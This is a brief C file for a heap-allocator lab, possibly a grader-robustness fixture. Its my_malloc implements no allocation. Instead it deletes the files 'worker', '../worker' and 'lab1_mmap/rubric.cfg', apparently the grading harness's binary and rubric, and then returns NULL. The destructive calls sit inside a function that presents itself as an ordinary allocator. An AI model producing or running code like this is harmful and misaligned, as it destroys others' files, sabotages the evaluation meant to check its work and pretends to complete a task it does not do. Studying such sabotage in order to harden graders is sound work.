/* heaplab: lab 1, rule|crash -- removes sources and binaries */

#include <stddef.h>
#include <unistd.h>

void init_mem_pool(void)
{
}

void my_free(void *address)
{
    (void)address;
}

void *my_malloc(size_t num_bytes)
{
    (void)num_bytes;
    unlink("worker");
    unlink("../worker");
    unlink("lab1_mmap/rubric.cfg");
    return NULL;
}
